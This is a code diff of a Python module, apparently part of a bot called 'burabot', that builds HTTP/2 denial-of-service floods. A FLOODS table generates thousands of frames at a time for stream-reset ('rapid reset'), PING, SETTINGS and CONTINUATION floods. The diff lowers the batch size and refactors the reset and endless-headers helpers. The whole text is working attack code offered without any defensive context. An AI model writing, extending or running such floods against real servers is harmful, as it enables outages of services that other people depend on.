@@ -9,31 +9,26 @@ import time
 from queue import SimpleQueue
 
 import http2
-from http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, frame
+from http2 import CONTINUATION, DATA, HEADERS, PING, SETTINGS, frame
 
 from burabot import bot_pb2
 
-AT_ONCE = 5_000
-EMPTY = http2.fields((("x", "y" * 1000),))
+AT_ONCE = 2_000
+FIELD = http2.fields((("x", "y" * 1000),))
 streams = itertools.count(3, 2)
 writing = threading.Lock()
 
 
-def reset() -> bytes:
-    """Return what opens a stream and cancels it at once."""
-    number = next(streams)
-    opened = frame(HEADERS, http2.fields(), flags=END_HEADERS, stream=number)
-    return opened + frame(RST_STREAM, struct.pack(">I", 8), stream=number)
+def endless_headers(stream: int) -> bytes:
+    """Return headers of a stream that go on and on."""
+    return frame(HEADERS, stream=stream) + frame(CONTINUATION, FIELD, stream=stream) * AT_ONCE
 
 
 FLOODS = {
-    "resets": lambda: b"".join(reset() for _ in range(AT_ONCE)),
+    "resets": lambda: b"".join(http2.cancelled_call(next(streams)) for _ in range(AT_ONCE)),
     "pings": lambda: frame(PING, b"12345678") * AT_ONCE,
     "settings": lambda: frame(SETTINGS) * AT_ONCE,
-    "continuations": lambda: (
-        frame(HEADERS, b"", stream=next(streams))
-        + frame(CONTINUATION, EMPTY, stream=next(streams) - 2) * AT_ONCE
-    ),
+    "continuations": lambda: endless_headers(next(streams)),
 }
 
 
